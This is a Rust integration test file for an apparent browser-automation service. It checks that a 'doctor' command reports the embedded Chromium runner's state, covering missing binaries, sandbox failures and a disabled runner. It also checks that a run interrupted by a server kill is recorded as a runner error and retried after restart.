fn doctor(data: &Path, env: &[(&str, &str)]) -> (Option<i32>, Value, String) {
    let mut cmd = std::process::Command::new(bin());
    cmd.args(["doctor", "--json", "--data-dir"])
        .arg(data)
        .env_remove("FLOWGUARD_CONFIG")
        .env("FLOWGUARD_LOG", "warn")
        .env("FLOWGUARD_STORE__MIN_FREE_MIB", "1")
        .env("FLOWGUARD_RUNNER__EMBEDDED_WORKERS", "1");
    for (k, v) in env {
        cmd.env(k, v);
    }
    let o = cmd.output().unwrap();
    let v = serde_json::from_slice(&o.stdout).unwrap_or(Value::Null);
    let text = format!(
        "{}\n{}",
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    );
    (o.status.code(), v, text)
}

fn runner_findings(v: &Value) -> Vec<Value> {
    v["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["check"] == "runner")
        .cloned()
        .collect()
}

#[tokio::test]
async fn doctor_reports_the_embedded_runner_and_fails_when_it_cannot_run() {
    let app = spawn_app().await;
    // Chromium found, its version, the sandbox, /dev/shm: healthy.
    let (code, v, out) = doctor(&app.data, &[]);
    assert_eq!(code, Some(0), "{out}");
    let r = &v["runner"];
    assert_eq!(r["enabled"], true, "{out}");
    assert_eq!(r["workers"], 1);
    assert!(r["chromium"].as_str().unwrap().contains("chrom"), "{out}");
    assert!(
        r["chromium_version"]
            .as_str()
            .unwrap_or("")
            .contains("Chromium"),
        "{out}"
    );
    assert_eq!(r["sandbox"], true, "{out}");
    assert_eq!(r["can_run"], true, "{out}");
    assert!(r["shm_bytes"].as_u64().unwrap() > 0, "{out}");
    assert!(runner_findings(&v).is_empty(), "{out}");

    // No Chromium at the configured path: a finding, exit 1.
    let (code, v, out) = doctor(
        &app.data,
        &[("FLOWGUARD_RUNNER__CHROMIUM", "/nonexistent/chromium")],
    );
    assert_eq!(code, Some(1), "{out}");
    assert_eq!(v["runner"]["can_run"], false, "{out}");
    let f = runner_findings(&v);
    assert_eq!(f.len(), 1, "{out}");
    assert!(
        f[0]["problem"]
            .as_str()
            .unwrap()
            .contains("/nonexistent/chromium"),
        "{out}"
    );

    // A "browser" whose sandbox probe fails: refused (exit 1, why) unless allow_no_sandbox,
    // which runs but is warned about.
    let (code, v, out) = doctor(&app.data, &[("FLOWGUARD_RUNNER__CHROMIUM", "/bin/false")]);
    assert_eq!(code, Some(1), "{out}");
    assert_eq!(v["runner"]["sandbox"], false);
    assert!(
        runner_findings(&v)[0]["problem"]
            .as_str()
            .unwrap()
            .contains("sandbox cannot start"),
        "{out}"
    );
    let (code, v, out) = doctor(
        &app.data,
        &[
            ("FLOWGUARD_RUNNER__CHROMIUM", "/bin/false"),
            ("FLOWGUARD_RUNNER__ALLOW_NO_SANDBOX", "true"),
        ],
    );
    assert_eq!(code, Some(0), "{out}");
    assert_eq!(v["runner"]["can_run"], true);
    assert_eq!(v["runner"]["sandbox"], false);
    assert!(v["runner"]["sandbox_problem"].as_str().is_some(), "{out}");
    assert!(
        v["runner"]["warnings"]
            .to_string()
            .contains("WITHOUT its sandbox"),
        "{out}"
    );

    // Off: reported as off, never a finding.
    let (code, v, out) = doctor(
        &app.data,
        &[
            ("FLOWGUARD_RUNNER__EMBEDDED_WORKERS", "0"),
            ("FLOWGUARD_RUNNER__CHROMIUM", "/nonexistent/chromium"),
        ],
    );
    assert_eq!(code, Some(0), "{out}");
    assert_eq!(v["runner"]["enabled"], false);
}

/// kill -9 of `serve` mid-run, then a restart on the same data dir: the run the embedded runner
/// was executing ends `error` / `runner_error` at start-up (retried once), not `failed` /
/// `agent_timeout` after the heartbeat timeout.
#[tokio::test]
async fn a_run_interrupted_by_a_server_kill_is_a_runner_error_at_restart() {
    let web = serve_page().await;
    let (app, profiles) = spawn_runner(1).await;
    let owner = app.owner().await;
    let (password, tenant) = (app.owner_password(), app.tenant_id());
    let a = make_app(&owner, &web).await;
    let flow = make_flow(
        &owner,
        &a,
        json!([
            {"type": "navigate", "url": "/"},
            {"type": "wait", "for": "selector", "selector": "#never", "timeout_ms": 60000}
        ]),
    )
    .await;
    let run = queue(&owner, &flow).await;
    wait_run(&owner, &run, 60, |d| d["steps"][0]["status"] == "passed").await;
    let browser = main_browser(&profiles).await;
    let TestApp { dir, child, .. } = app;
    drop(child); // SIGKILL + wait
                 // The browser dies with the server (parent-death signal), even though nobody closed it.
    let deadline = Instant::now() + Duration::from_secs(10);
    while std::fs::metadata(format!("/proc/{browser}")).is_ok() {
        assert!(
            Instant::now() < deadline,
            "the browser outlived the killed server"
        );
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    // Restart without workers, so the retry stays queued where we can see it.
    let started = Instant::now();
    let mut app = spawn_with(Opts {
        dir: Some(dir),
        ..Default::default()
    })
    .await;
    app.creds.insert("owner_password".into(), password);
    app.creds.insert("tenant_id".into(), tenant);
    let owner = app.owner().await;
    let d = wait_run(&owner, &run, 20, finished).await;
    assert!(started.elapsed() < Duration::from_secs(30));
    assert_eq!(d["status"], "error", "{d:#}");
    assert_eq!(d["reason"], "runner_error", "{d:#}");
    assert!(
        d["error"].as_str().unwrap().contains("server stopped"),
        "{d:#}"
    );
    let list = owner
        .json(
            Method::GET,
            &format!("/api/v1/applications/{a}/runs"),
            None,
            200,
        )
        .await;
    let items = list["items"]
        .as_array()
        .unwrap_or_else(|| list.as_array().unwrap())
        .clone();
    let retries: Vec<_> = items
        .iter()
        .filter(|r| r["retry_of"] == run.as_str())
        .collect();
    assert_eq!(retries.len(), 1, "{list:#}");
    assert_eq!(retries[0]["status"], "queued", "{list:#}");
    assert_eq!(items.len(), 2, "{list:#}");
    let audit = owner
        .json(Method::GET, "/api/v1/audit?action=run.complete", None, 200)
        .await;
    assert!(audit.to_string().contains("runner:embedded"), "{audit:#}");
}
